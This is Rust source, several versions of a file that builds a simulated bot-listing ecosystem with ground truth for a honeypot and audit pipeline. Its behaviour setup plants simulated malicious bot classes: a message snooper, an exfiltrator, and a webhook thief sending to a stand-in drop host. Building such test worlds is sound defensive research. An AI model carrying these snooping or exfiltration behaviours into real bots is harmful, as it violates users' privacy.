                    GithubClass::ReadmeOnly => {
                        let slug = format!("dev{idx}/{}-docs", name.to_lowercase());
                        github.publish(genrepo::readme_only_repo(&slug));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
                    GithubClass::LicenseOnly => {
                        let slug = format!("dev{idx}/{}-meta", name.to_lowercase());
                        github.publish(genrepo::license_only_repo(&slug));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
                    GithubClass::None | GithubClass::DeadLink => unreachable!(),
                };
                shared_links.insert(share_key, link.clone());
                Some(link)
            }
        };

        let n_tags = rng.gen_range(1..=3);
        let tags: Vec<String> = (0..n_tags)
            .map(|_| TAGS[rng.gen_range(0..TAGS.len())].to_string())
            .collect();

        // Sample commands advertised on the listing: prefix + a few verbs
        // matching the bot's tags.
        let prefix = ["!", "?", "$"][rng.gen_range(0usize..3)];
        let verbs = [
            "help", "info", "play", "skip", "kick", "ban", "rank", "meme", "poll", "daily",
        ];
        let n_cmds = rng.gen_range(2..=5);
        let mut commands: Vec<String> = (0..n_cmds)
            .map(|_| format!("{prefix}{}", verbs[rng.gen_range(0..verbs.len())]))
            .collect();
        commands.sort();
        commands.dedup();

        listings.push(BotListing {
            id: if client_id != 0 {
                client_id
            } else {
                8_000_000_000 + idx as u64
            },
            name: name.clone(),
            tags: tags.clone(),
            description: format!("{name} — {}.", tags.join(" / ")),
            invite_link: invite_link.clone(),
            guild_count,
            vote_count,
            website: website.clone(),
            github: github_link.clone(),
            developers: developers[idx].clone(),
            commands,
        });

        truth.bots.push(BotTruth {
            client_id,
            name,
            developers: developers[idx].clone(),
            invite_class,
            permissions,
            policy_class,
            github_class,
            behavior,
            guild_count,
            vote_count,
        });
    }

    let site_config = SiteConfig {
        page_size: config.page_size,
        captcha_every: config.captcha_every,
        rate_limit: config.rate_limit,
        email_wall_after_page: config.email_wall_after_page,
    };
    let site = BotListSite::new(listings, site_config);
    site.mount(&net);

    Ecosystem {
        platform,
        net,
        site,
        github,
        truth,
        app_owner,
    }
}

impl Ecosystem {
    /// Build the behaviour box for a planted behaviour class.
    pub fn behavior_for(class: BehaviorClass) -> Box<dyn Behavior> {
        match class {
            BehaviorClass::Benign => Box::new(BenignBehavior::new("fun")),
            // Trigger threshold below the 25-message feed so a campaign
            // observes the snoop, mirroring Melonian's behaviour window.
            BehaviorClass::Snooper => Box::new(SnooperBehavior::new(12)),
            BehaviorClass::Exfiltrator => Box::new(ExfiltratorBehavior::new(None).spamming()),
            BehaviorClass::WebhookThief => {
                Box::new(botsdk::WebhookThiefBehavior::new("drop.zone.sim"))
            }
        }
    }

    /// The most-voted valid bots, ready for a honeypot campaign: name,
    /// client id, bot account, invite, and the planted behaviour.
    pub fn most_voted_testable(
        &self,
        count: usize,
    ) -> Vec<(BotTruth, InviteUrl, discord_sim::UserId, Box<dyn Behavior>)> {
        let mut out = Vec::new();
        let mut sorted: Vec<&BotTruth> = self.truth.valid_bots().collect();
        sorted.sort_by(|a, b| {
            b.vote_count
                .cmp(&a.vote_count)
                .then(a.client_id.cmp(&b.client_id))
        });
        for bot in sorted.into_iter().take(count) {
            let Ok(app) = self.platform.application(bot.client_id) else {
                continue;
            };
            let Some(perms) = bot.permissions else {
                continue;
            };
            out.push((
                bot.clone(),
                InviteUrl::bot(bot.client_id, perms),
                app.bot_user,
                Self::behavior_for(bot.behavior),
            ));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use discord_sim::Permissions;

    #[test]
    fn ecosystem_shape_matches_calibration() {
        let config = EcosystemConfig::test_scale(2000, 11);
        let eco = build_ecosystem(&config);
        assert_eq!(eco.truth.bots.len(), 2000);
        assert_eq!(eco.site.listing_count(), 2000);

        let valid = eco.truth.valid_bots().count() as f64 / 2000.0;
        assert!((valid - 0.74).abs() < 0.05, "valid fraction {valid}");

        let admin_rate = eco.truth.permission_rate(Permissions::ADMINISTRATOR);
        assert!(
            (admin_rate - 0.5486).abs() < 0.05,
            "admin rate {admin_rate}"
        );
        let send_rate = eco.truth.permission_rate(Permissions::SEND_MESSAGES);
        assert!((send_rate - 0.5918).abs() < 0.05, "send rate {send_rate}");
    }

    #[test]
    fn valid_bots_are_registered_on_the_platform() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(200, 12));
        for bot in eco.truth.valid_bots() {
            assert!(
                eco.platform.application(bot.client_id).is_ok(),
                "{}",
                bot.name
            );
        }
    }

    #[test]
    fn snooper_is_planted_with_valid_invite_and_name() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, 13));
        let snoopers: Vec<_> = eco
            .truth
            .bots
            .iter()
            .filter(|b| b.behavior == BehaviorClass::Snooper)
            .collect();
        assert_eq!(snoopers.len(), 1);
        assert_eq!(snoopers[0].name, "Melonian");
        assert_eq!(snoopers[0].invite_class, InviteClass::Valid);
    }

    #[test]
    fn most_voted_testable_returns_installable_bots() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, 14));
        let testable = eco.most_voted_testable(20);
        assert_eq!(testable.len(), 20);
        // Sorted by votes, descending.
        for pair in testable.windows(2) {
            assert!(pair[0].0.vote_count >= pair[1].0.vote_count);
        }
        // Every invite installs for real.
        let owner = eco.platform.register_user("tester", "t@x.y");
        let guild = eco
            .platform
            .create_guild(owner, "probe", GuildVisibility::Private)
            .unwrap();
        for (truth, invite, bot_user, _behavior) in &testable {
            let installed = eco
                .platform
                .install_bot(owner, guild, invite, true)
                .unwrap();
            assert_eq!(installed, *bot_user, "{}", truth.name);
        }
    }

    #[test]
    fn website_and_github_fractions_roughly_hold() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(3000, 15));
        let valid: Vec<_> = eco.truth.valid_bots().collect();
        let n = valid.len() as f64;
        let with_site = valid
            .iter()
            .filter(|b| b.policy_class != PolicyClass::NoWebsite)
            .count() as f64;
        assert!(
            (with_site / n - 0.3727).abs() < 0.04,
            "website fraction {}",
            with_site / n
        );
        let with_gh = valid
            .iter()
            .filter(|b| b.github_class != GithubClass::None)
            .count() as f64;
        assert!(
            (with_gh / n - 0.2386).abs() < 0.04,
            "github fraction {}",
            with_gh / n
        );
    }

    #[test]
    fn least_voted_bots_are_offline() {
        // §4.2: "We considered doing a sample from the middle and least
        // voted but they were mainly offline or not being used (i.e., in 0
        // guilds)." The popularity curve plants exactly that.
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, 17));
        let mut by_votes: Vec<&crate::truth::BotTruth> = eco.truth.bots.iter().collect();
        by_votes.sort_by_key(|b| std::cmp::Reverse(b.vote_count));
        let bottom: Vec<_> = by_votes.iter().rev().take(30).collect();
        assert!(
            bottom.iter().all(|b| b.guild_count == 0),
            "least-voted bots sit in 0 guilds"
        );
        let top: Vec<_> = by_votes.iter().take(30).collect();
        assert!(
            top.iter().all(|b| b.guild_count >= 25),
            "most-voted are in real use"
        );
        // Vote range spans orders of magnitude (paper: 876K → 6; the floor
        // of 6 binds only at paper scale, so assert the spread shape here).
        assert!(by_votes[0].vote_count > 100_000);
        assert!(by_votes.last().unwrap().vote_count < by_votes[0].vote_count / 500);
    }

    #[test]
    fn deterministic_world() {
        let a = build_ecosystem(&EcosystemConfig::test_scale(150, 16));
        let b = build_ecosystem(&EcosystemConfig::test_scale(150, 16));
        let names_a: Vec<&String> = a.truth.bots.iter().map(|x| &x.name).collect();
        let names_b: Vec<&String> = b.truth.bots.iter().map(|x| &x.name).collect();
        assert_eq!(names_a, names_b);
        let perms_a: Vec<_> = a.truth.bots.iter().map(|x| x.permissions).collect();
        let perms_b: Vec<_> = b.truth.bots.iter().map(|x| x.permissions).collect();
        assert_eq!(perms_a, perms_b);
    }
}
