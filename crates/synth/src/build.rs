//! Ecosystem assembly (the mount phase).
//!
//! [`build_ecosystem`] wires everything the measurement pipeline needs into
//! one deterministic world: the platform with registered bot applications,
//! the listing site, per-bot websites, the GitHub site, redirector hosts
//! for the broken-invite population, the captcha solver, and the OAuth
//! install endpoint — all against one virtual clock.
//!
//! Assembly is two-phase: [`crate::plan::plan_world`] makes every random
//! draw and captures the outcome as data, then [`mount_world`] (below)
//! materialises the plan without consuming any randomness. The split
//! exists for the longitudinal drift model — [`crate::drift`] rewrites the
//! plan between epochs and re-mounts, keeping undrifted bots byte-identical
//! so the incremental re-audit path can reuse their cached analyses.

use crate::config::EcosystemConfig;
use crate::plan::{GithubPublish, WorldPlan};
use crate::truth::{BehaviorClass, BotTruth, GroundTruth, InviteClass, PolicyClass};
use botlist::website::{BotWebsite, PolicyHosting};
use botlist::{BotListSite, BotListing, SiteConfig};
use botsdk::{Behavior, BenignBehavior, ExfiltratorBehavior, SnooperBehavior};
use codeanal::github::GitHubSite;
use crawler::solver::CaptchaSolverService;
use discord_sim::oauth::InviteUrl;
use discord_sim::webgate::OAuthWebGate;
use discord_sim::{GuildVisibility, Platform, UserId};
use netsim::clock::VirtualClock;
use netsim::fault::FaultPlan;
use netsim::http::{Request, Response};
use netsim::latency::LatencyModel;
use netsim::{Network, ServiceCtx};

/// The assembled world.
pub struct Ecosystem {
    /// The messaging platform.
    pub platform: Platform,
    /// The shared network fabric.
    pub net: Network,
    /// The mounted listing site.
    pub site: BotListSite,
    /// The mounted GitHub site.
    pub github: GitHubSite,
    /// Planted ground truth.
    pub truth: GroundTruth,
    /// The umbrella account that owns every registered application.
    pub app_owner: UserId,
}

/// Build the world.
pub fn build_ecosystem(config: &EcosystemConfig) -> Ecosystem {
    mount_world(&crate::plan::plan_world(config), config)
}

/// Materialise a (possibly drifted) plan into a mounted world. Consumes no
/// randomness: two mounts of the same plan are byte-identical, and bots the
/// drift layer left alone serve exactly the same crawl bytes in every
/// epoch.
pub(crate) fn mount_world(plan: &WorldPlan, config: &EcosystemConfig) -> Ecosystem {
    let clock = VirtualClock::new();
    let net = Network::with_clock(config.seed ^ 0x6e65_7473_696d, clock.clone());
    let platform = Platform::new(clock);
    CaptchaSolverService::mount(&net);
    OAuthWebGate::new(platform.clone()).mount(&net);
    let github = GitHubSite::new();
    github.mount(&net);

    let app_owner = platform.register_user("umbrella-dev#0000", "apps@devs.example");
    // Apps need an existing owner; also seed one public guild so the world
    // is never empty.
    platform
        .create_guild(app_owner, "seed-guild", GuildVisibility::Public)
        .expect("owner exists");

    let mut listings = Vec::with_capacity(plan.bots.len());
    let mut truth = GroundTruth::default();

    for bot in &plan.bots {
        let idx = bot.idx;
        let (client_id, invite_link) = match bot.invite_class {
            InviteClass::Valid | InviteClass::SlowRedirect => {
                // Registration order is plan order, so client ids are
                // stable across epochs — drift never changes *which* bots
                // register, only what they serve.
                let app = platform
                    .register_bot_application(app_owner, &bot.name)
                    .expect("owner exists");
                let perms = bot.permissions.expect("valid bots carry permissions");
                let oauth = InviteUrl::bot(app.client_id, perms).to_url().to_string();
                let link = if bot.invite_class == InviteClass::SlowRedirect {
                    let host = format!("slow-redir-{idx}.sim");
                    let target = oauth.clone();
                    net.mount_with(
                        &host,
                        move |_req: &Request, _ctx: &mut ServiceCtx<'_>| {
                            Response::redirect(&target)
                        },
                        LatencyModel::Fixed { ms: 120_000 },
                        FaultPlan::none(),
                    );
                    format!("https://{host}/invite")
                } else {
                    oauth
                };
                (app.client_id, link)
            }
            InviteClass::Removed => {
                let ghost_id = 9_000_000_000 + idx as u64;
                let perms = bot
                    .ghost_permissions
                    .expect("removed bots carry ghost perms");
                (0, InviteUrl::bot(ghost_id, perms).to_url().to_string())
            }
            InviteClass::Malformed => {
                let link = match idx % 3 {
                    0 => "https://discord.sim/oauth2/authorize?scope=bot".to_string(),
                    1 => format!(
                        "https://discord.sim/oauth2/authorize?client_id={idx}&scope=identify"
                    ),
                    _ => "join my server!!".to_string(),
                };
                (0, link)
            }
            InviteClass::DeadRedirect => (0, format!("https://redir-{idx}.dead.sim/inv")),
        };

        let website = match bot.policy_class {
            PolicyClass::NoWebsite => None,
            _ => {
                let host = format!("bot-{idx}.site.sim");
                let hosting = match bot.policy_class {
                    PolicyClass::NoPolicy => PolicyHosting::None,
                    PolicyClass::DeadPolicyLink => PolicyHosting::DeadLink,
                    PolicyClass::GenericPolicy
                    | PolicyClass::PartialPolicy
                    | PolicyClass::CompletePolicy => PolicyHosting::Linked(
                        bot.policy.clone().expect("linked classes carry a policy"),
                    ),
                    PolicyClass::NoWebsite => unreachable!(),
                };
                BotWebsite::new(&bot.name, hosting).mount(&net, &host);
                Some(format!("https://{host}/"))
            }
        };

        for publish in &bot.publishes {
            match publish {
                GithubPublish::Repo(repo) => github.publish(repo.clone()),
                GithubPublish::EmptyProfile(owner) => github.publish_empty_profile(owner),
            }
        }

        listings.push(BotListing {
            id: if client_id != 0 {
                client_id
            } else {
                8_000_000_000 + idx as u64
            },
            name: bot.name.clone(),
            tags: bot.tags.clone(),
            description: format!("{} — {}.", bot.name, bot.tags.join(" / ")),
            invite_link: invite_link.clone(),
            guild_count: bot.guild_count,
            vote_count: bot.vote_count,
            website: website.clone(),
            github: bot.github_link.clone(),
            developers: bot.developers.clone(),
            commands: bot.commands.clone(),
        });

        truth.bots.push(BotTruth {
            client_id,
            name: bot.name.clone(),
            developers: bot.developers.clone(),
            invite_class: bot.invite_class,
            permissions: bot.permissions,
            policy_class: bot.policy_class,
            github_class: bot.github_class,
            behavior: bot.behavior,
            guild_count: bot.guild_count,
            vote_count: bot.vote_count,
        });
    }

    let site_config = SiteConfig {
        page_size: config.page_size,
        captcha_every: config.captcha_every,
        rate_limit: config.rate_limit,
        email_wall_after_page: config.email_wall_after_page,
        stale_validators: config.stale_validators,
    };
    let site = BotListSite::new(listings, site_config);
    site.mount(&net);

    Ecosystem {
        platform,
        net,
        site,
        github,
        truth,
        app_owner,
    }
}

impl Ecosystem {
    /// The listing-site id of the bot at plan index `idx` (client id for
    /// registered bots, the synthetic `8e9 + idx` id otherwise) — the same
    /// rule the mount phase uses, so drift ledgers can name listing pages.
    pub fn listing_id(&self, idx: usize) -> u64 {
        let t = &self.truth.bots[idx];
        if t.client_id != 0 {
            t.client_id
        } else {
            8_000_000_000 + idx as u64
        }
    }

    /// Build the behaviour box for a planted behaviour class.
    pub fn behavior_for(class: BehaviorClass) -> Box<dyn Behavior> {
        match class {
            BehaviorClass::Benign => Box::new(BenignBehavior::new("fun")),
            // Trigger threshold below the 25-message feed so a campaign
            // observes the snoop, mirroring Melonian's behaviour window.
            BehaviorClass::Snooper => Box::new(SnooperBehavior::new(12)),
            BehaviorClass::Exfiltrator => Box::new(ExfiltratorBehavior::new(None).spamming()),
            BehaviorClass::WebhookThief => {
                Box::new(botsdk::WebhookThiefBehavior::new("drop.zone.sim"))
            }
        }
    }

    /// The most-voted valid bots, ready for a honeypot campaign: name,
    /// client id, bot account, invite, and the planted behaviour.
    pub fn most_voted_testable(
        &self,
        count: usize,
    ) -> Vec<(BotTruth, InviteUrl, discord_sim::UserId, Box<dyn Behavior>)> {
        let mut out = Vec::new();
        let mut sorted: Vec<&BotTruth> = self.truth.valid_bots().collect();
        sorted.sort_by(|a, b| {
            b.vote_count
                .cmp(&a.vote_count)
                .then(a.client_id.cmp(&b.client_id))
        });
        for bot in sorted.into_iter().take(count) {
            let Ok(app) = self.platform.application(bot.client_id) else {
                continue;
            };
            let Some(perms) = bot.permissions else {
                continue;
            };
            out.push((
                bot.clone(),
                InviteUrl::bot(bot.client_id, perms),
                app.bot_user,
                Self::behavior_for(bot.behavior),
            ));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::truth::GithubClass;
    use discord_sim::Permissions;

    #[test]
    fn ecosystem_shape_matches_calibration() {
        let config = EcosystemConfig::test_scale(2000, 11);
        let eco = build_ecosystem(&config);
        assert_eq!(eco.truth.bots.len(), 2000);
        assert_eq!(eco.site.listing_count(), 2000);

        let valid = eco.truth.valid_bots().count() as f64 / 2000.0;
        assert!((valid - 0.74).abs() < 0.05, "valid fraction {valid}");

        let admin_rate = eco.truth.permission_rate(Permissions::ADMINISTRATOR);
        assert!(
            (admin_rate - 0.5486).abs() < 0.05,
            "admin rate {admin_rate}"
        );
        let send_rate = eco.truth.permission_rate(Permissions::SEND_MESSAGES);
        assert!((send_rate - 0.5918).abs() < 0.05, "send rate {send_rate}");
    }

    #[test]
    fn valid_bots_are_registered_on_the_platform() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(200, 12));
        for bot in eco.truth.valid_bots() {
            assert!(
                eco.platform.application(bot.client_id).is_ok(),
                "{}",
                bot.name
            );
        }
    }

    #[test]
    fn snooper_is_planted_with_valid_invite_and_name() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, 13));
        let snoopers: Vec<_> = eco
            .truth
            .bots
            .iter()
            .filter(|b| b.behavior == BehaviorClass::Snooper)
            .collect();
        assert_eq!(snoopers.len(), 1);
        assert_eq!(snoopers[0].name, "Melonian");
        assert_eq!(snoopers[0].invite_class, InviteClass::Valid);
    }

    #[test]
    fn most_voted_testable_returns_installable_bots() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, 14));
        let testable = eco.most_voted_testable(20);
        assert_eq!(testable.len(), 20);
        // Sorted by votes, descending.
        for pair in testable.windows(2) {
            assert!(pair[0].0.vote_count >= pair[1].0.vote_count);
        }
        // Every invite installs for real.
        let owner = eco.platform.register_user("tester", "t@x.y");
        let guild = eco
            .platform
            .create_guild(owner, "probe", GuildVisibility::Private)
            .unwrap();
        for (truth, invite, bot_user, _behavior) in &testable {
            let installed = eco
                .platform
                .install_bot(owner, guild, invite, true)
                .unwrap();
            assert_eq!(installed, *bot_user, "{}", truth.name);
        }
    }

    #[test]
    fn website_and_github_fractions_roughly_hold() {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(3000, 15));
        let valid: Vec<_> = eco.truth.valid_bots().collect();
        let n = valid.len() as f64;
        let with_site = valid
            .iter()
            .filter(|b| b.policy_class != PolicyClass::NoWebsite)
            .count() as f64;
        assert!(
            (with_site / n - 0.3727).abs() < 0.04,
            "website fraction {}",
            with_site / n
        );
        let with_gh = valid
            .iter()
            .filter(|b| b.github_class != GithubClass::None)
            .count() as f64;
        assert!(
            (with_gh / n - 0.2386).abs() < 0.04,
            "github fraction {}",
            with_gh / n
        );
    }

    #[test]
    fn least_voted_bots_are_offline() {
        // §4.2: "We considered doing a sample from the middle and least
        // voted but they were mainly offline or not being used (i.e., in 0
        // guilds)." The popularity curve plants exactly that.
        let eco = build_ecosystem(&EcosystemConfig::test_scale(300, 17));
        let mut by_votes: Vec<&crate::truth::BotTruth> = eco.truth.bots.iter().collect();
        by_votes.sort_by_key(|b| std::cmp::Reverse(b.vote_count));
        let bottom: Vec<_> = by_votes.iter().rev().take(30).collect();
        assert!(
            bottom.iter().all(|b| b.guild_count == 0),
            "least-voted bots sit in 0 guilds"
        );
        let top: Vec<_> = by_votes.iter().take(30).collect();
        assert!(
            top.iter().all(|b| b.guild_count >= 25),
            "most-voted are in real use"
        );
        // Vote range spans orders of magnitude (paper: 876K → 6; the floor
        // of 6 binds only at paper scale, so assert the spread shape here).
        assert!(by_votes[0].vote_count > 100_000);
        assert!(by_votes.last().unwrap().vote_count < by_votes[0].vote_count / 500);
    }

    #[test]
    fn deterministic_world() {
        let a = build_ecosystem(&EcosystemConfig::test_scale(150, 16));
        let b = build_ecosystem(&EcosystemConfig::test_scale(150, 16));
        let names_a: Vec<&String> = a.truth.bots.iter().map(|x| &x.name).collect();
        let names_b: Vec<&String> = b.truth.bots.iter().map(|x| &x.name).collect();
        assert_eq!(names_a, names_b);
        let perms_a: Vec<_> = a.truth.bots.iter().map(|x| x.permissions).collect();
        let perms_b: Vec<_> = b.truth.bots.iter().map(|x| x.permissions).collect();
        assert_eq!(perms_a, perms_b);
    }
}
