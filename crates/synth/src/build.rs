//! Ecosystem assembly (the mount phase).
//!
//! [`build_ecosystem`] wires everything the measurement pipeline needs into
//! one deterministic world: the platform with registered bot applications,
//! the listing site, per-bot websites, the GitHub site, redirector hosts
//! for the broken-invite population, the captcha solver, and the OAuth
//! install endpoint — all against one virtual clock.
//!
//! Assembly is two-phase: [`crate::plan::plan_world`] makes every random
//! draw and captures the outcome as data, then [`mount_world`] (below)
//! materialises the plan without consuming any randomness. The split
//! exists for the longitudinal drift model — [`crate::drift`] rewrites the
//! plan between epochs and re-mounts, keeping undrifted bots byte-identical
//! so the incremental re-audit path can reuse their cached analyses.

use crate::config::EcosystemConfig;
use crate::plan::{BotPlan, GithubPublish, WorldPlan};
use crate::truth::{BehaviorClass, BotTruth, GroundTruth, InviteClass, PolicyClass};
use botlist::site::LIST_HOST;
use botlist::website::{BotWebsite, PolicyHosting};
use botlist::{BotListSite, BotListing, SiteConfig};
use botsdk::{Behavior, BenignBehavior, ExfiltratorBehavior, SnooperBehavior};
use codeanal::github::GitHubSite;
use crawler::solver::CaptchaSolverService;
use discord_sim::oauth::InviteUrl;
use discord_sim::webgate::OAuthWebGate;
use discord_sim::{GuildVisibility, Permissions, Platform, UserId};
use netsim::clock::VirtualClock;
use netsim::fault::FaultPlan;
use netsim::http::{Request, Response};
use netsim::latency::LatencyModel;
use netsim::{Network, ServiceCtx};
use platform::{ActorId, PlatformKind, TgRights, TELEGRAM_DEEPLINK_HOST, TELEGRAM_LIST_HOST};
use telegram_sim::{deep_link, DeepLinkGate, TgBehavior, TgPlatform};

/// The assembled world.
pub struct Ecosystem {
    /// Which substrate this world runs on.
    pub kind: PlatformKind,
    /// The Discord-style messaging platform. Present in every world so
    /// Discord-specific tooling keeps working; populated with registered
    /// applications only when [`Ecosystem::kind`] is Discord.
    pub platform: Platform,
    /// The Telegram-style platform, populated when `kind` is Telegram.
    pub telegram: Option<TgPlatform>,
    /// The shared network fabric.
    pub net: Network,
    /// The mounted listing site.
    pub site: BotListSite,
    /// Host the listing site answers on (`top.gg.sim` or `tdirectory.sim`).
    pub list_host: String,
    /// The mounted GitHub site.
    pub github: GitHubSite,
    /// Planted ground truth.
    pub truth: GroundTruth,
    /// The umbrella account that owns every registered application.
    pub app_owner: UserId,
}

/// Map a planned Discord-style permission intent onto the Telegram model:
/// `(admin rights, privacy mode)`. Deterministic — the Telegram mount makes
/// no draws of its own, so drift at the plan level (permission creep, a
/// behaviour flip) lands on both substrates identically.
///
/// Privacy mode turns **off** exactly when the plan wants to read the room
/// (`READ_MESSAGE_HISTORY` or blanket `ADMINISTRATOR`) — the coarse switch
/// Telegram offers where Discord has a read permission bit.
pub fn telegram_profile(perms: Permissions) -> (TgRights, bool) {
    let mut rights = TgRights::NONE;
    if perms.contains(Permissions::ADMINISTRATOR) {
        rights = TgRights::ALL_KNOWN;
    } else {
        if perms.intersects(Permissions::MANAGE_MESSAGES) {
            rights |= TgRights::DELETE_MESSAGES | TgRights::PIN_MESSAGES;
        }
        if perms.intersects(
            Permissions::BAN_MEMBERS | Permissions::KICK_MEMBERS | Permissions::MODERATE_MEMBERS,
        ) {
            rights |= TgRights::BAN_USERS;
        }
        if perms.intersects(Permissions::CREATE_INSTANT_INVITE) {
            rights |= TgRights::INVITE_USERS;
        }
        if perms.intersects(Permissions::MANAGE_GUILD | Permissions::MANAGE_CHANNELS) {
            rights |= TgRights::CHANGE_INFO;
        }
        if perms.intersects(Permissions::CONNECT | Permissions::SPEAK | Permissions::MUTE_MEMBERS) {
            rights |= TgRights::MANAGE_VIDEO_CHATS;
        }
        if perms.intersects(Permissions::MANAGE_ROLES) {
            rights |= TgRights::PROMOTE_MEMBERS;
        }
        if perms.intersects(Permissions::SEND_MESSAGES) {
            rights |= TgRights::POST_MESSAGES;
        }
    }
    let privacy_off =
        perms.intersects(Permissions::READ_MESSAGE_HISTORY | Permissions::ADMINISTRATOR);
    (rights, !privacy_off)
}

/// The `@username` a bot registers under on the Telegram substrate —
/// lowercase alphanumeric slug of its listing name (unique because every
/// generated name embeds its plan index).
pub fn telegram_username(name: &str) -> String {
    name.chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .map(|c| c.to_ascii_lowercase())
        .collect()
}

/// Build the world.
pub fn build_ecosystem(config: &EcosystemConfig) -> Ecosystem {
    mount_world(&crate::plan::plan_world(config), config)
}

/// Materialise a (possibly drifted) plan into a mounted world. Consumes no
/// randomness: two mounts of the same plan are byte-identical, and bots the
/// drift layer left alone serve exactly the same crawl bytes in every
/// epoch.
pub(crate) fn mount_world(plan: &WorldPlan, config: &EcosystemConfig) -> Ecosystem {
    let clock = VirtualClock::new();
    let net = Network::with_clock(config.seed ^ 0x6e65_7473_696d, clock.clone());
    let platform = Platform::new(clock.clone());
    let github = GitHubSite::new();
    github.mount(&net);

    let telegram = match config.platform {
        PlatformKind::Discord => {
            // Discord-style install flow: a captcha-walled OAuth gate.
            CaptchaSolverService::mount(&net);
            OAuthWebGate::new(platform.clone()).mount(&net);
            platform.set_least_privilege_delivery(config.least_privilege_delivery);
            None
        }
        PlatformKind::Telegram => {
            // Telegram-style install flow: deep links, no captcha wall.
            let tg = TgPlatform::new(clock);
            DeepLinkGate::new(tg.clone()).mount(&net);
            Some(tg)
        }
    };

    let app_owner = platform.register_user("umbrella-dev#0000", "apps@devs.example");
    if config.platform == PlatformKind::Discord {
        // Apps need an existing owner; also seed one public guild so the
        // world is never empty.
        platform
            .create_guild(app_owner, "seed-guild", GuildVisibility::Public)
            .expect("owner exists");
    }

    let mut listings = Vec::with_capacity(plan.bots.len());
    let mut truth = GroundTruth::default();

    for bot in &plan.bots {
        let idx = bot.idx;
        let (client_id, invite_link) = match &telegram {
            None => mount_discord_invite(bot, &platform, app_owner, &net, config),
            Some(tg) => mount_telegram_invite(bot, tg, &net),
        };

        let website = match bot.policy_class {
            PolicyClass::NoWebsite => None,
            _ => {
                let host = format!("bot-{idx}.site.sim");
                let hosting = match bot.policy_class {
                    PolicyClass::NoPolicy => PolicyHosting::None,
                    PolicyClass::DeadPolicyLink => PolicyHosting::DeadLink,
                    PolicyClass::GenericPolicy
                    | PolicyClass::PartialPolicy
                    | PolicyClass::CompletePolicy => PolicyHosting::Linked(
                        bot.policy.clone().expect("linked classes carry a policy"),
                    ),
                    PolicyClass::NoWebsite => unreachable!(),
                };
                BotWebsite::new(&bot.name, hosting).mount(&net, &host);
                Some(format!("https://{host}/"))
            }
        };

        for publish in &bot.publishes {
            match publish {
                GithubPublish::Repo(repo) => github.publish(repo.clone()),
                GithubPublish::EmptyProfile(owner) => github.publish_empty_profile(owner),
            }
        }

        listings.push(BotListing {
            id: if client_id != 0 {
                client_id
            } else {
                8_000_000_000 + idx as u64
            },
            name: bot.name.clone(),
            tags: bot.tags.clone(),
            description: format!("{} — {}.", bot.name, bot.tags.join(" / ")),
            invite_link: invite_link.clone(),
            guild_count: bot.guild_count,
            vote_count: bot.vote_count,
            website: website.clone(),
            github: bot.github_link.clone(),
            developers: bot.developers.clone(),
            commands: bot.commands.clone(),
        });

        truth.bots.push(BotTruth {
            client_id,
            name: bot.name.clone(),
            developers: bot.developers.clone(),
            invite_class: bot.invite_class,
            permissions: bot.permissions,
            policy_class: bot.policy_class,
            github_class: bot.github_class,
            behavior: bot.behavior,
            guild_count: bot.guild_count,
            vote_count: bot.vote_count,
        });
    }

    let site_config = SiteConfig {
        page_size: config.page_size,
        captcha_every: config.captcha_every,
        rate_limit: config.rate_limit,
        email_wall_after_page: config.email_wall_after_page,
        stale_validators: config.stale_validators,
    };
    let site = BotListSite::new(listings, site_config);
    let list_host = match config.platform {
        PlatformKind::Discord => LIST_HOST.to_string(),
        PlatformKind::Telegram => TELEGRAM_LIST_HOST.to_string(),
    };
    site.mount_at(&net, &list_host);

    Ecosystem {
        kind: config.platform,
        platform,
        telegram,
        net,
        site,
        list_host,
        github,
        truth,
        app_owner,
    }
}

/// Register (where valid) and render one bot's invite on the Discord
/// substrate. Registration order is plan order, so client ids are stable
/// across epochs — drift never changes *which* bots register, only what
/// they serve.
fn mount_discord_invite(
    bot: &BotPlan,
    platform: &Platform,
    app_owner: UserId,
    net: &Network,
    config: &EcosystemConfig,
) -> (u64, String) {
    let idx = bot.idx;
    match bot.invite_class {
        InviteClass::Valid | InviteClass::SlowRedirect => {
            let app = platform
                .register_bot_application(app_owner, &bot.name)
                .expect("owner exists");
            if config.least_privilege_delivery {
                platform.register_bot_commands(app.bot_user, bot.commands.clone());
            }
            let perms = bot.permissions.expect("valid bots carry permissions");
            let oauth = InviteUrl::bot(app.client_id, perms).to_url().to_string();
            let link = if bot.invite_class == InviteClass::SlowRedirect {
                let host = format!("slow-redir-{idx}.sim");
                let target = oauth.clone();
                net.mount_with(
                    &host,
                    move |_req: &Request, _ctx: &mut ServiceCtx<'_>| Response::redirect(&target),
                    LatencyModel::Fixed { ms: 120_000 },
                    FaultPlan::none(),
                );
                format!("https://{host}/invite")
            } else {
                oauth
            };
            (app.client_id, link)
        }
        InviteClass::Removed => {
            let ghost_id = 9_000_000_000 + idx as u64;
            let perms = bot
                .ghost_permissions
                .expect("removed bots carry ghost perms");
            (0, InviteUrl::bot(ghost_id, perms).to_url().to_string())
        }
        InviteClass::Malformed => {
            let link = match idx % 3 {
                0 => "https://discord.sim/oauth2/authorize?scope=bot".to_string(),
                1 => {
                    format!("https://discord.sim/oauth2/authorize?client_id={idx}&scope=identify")
                }
                _ => "join my server!!".to_string(),
            };
            (0, link)
        }
        InviteClass::DeadRedirect => (0, format!("https://redir-{idx}.dead.sim/inv")),
    }
}

/// Register (where valid) and render one bot's invite on the Telegram
/// substrate — deep links in place of OAuth URLs, the same invite-health
/// mix (valid / removed / malformed / dead- and slow-redirectors) as the
/// Discord mount so the crawler's §4.2 link-validity measurement carries
/// over. Makes no randomness draws: rights and privacy mode derive from
/// the planned permission intent via [`telegram_profile`].
fn mount_telegram_invite(bot: &BotPlan, tg: &TgPlatform, net: &Network) -> (u64, String) {
    let idx = bot.idx;
    match bot.invite_class {
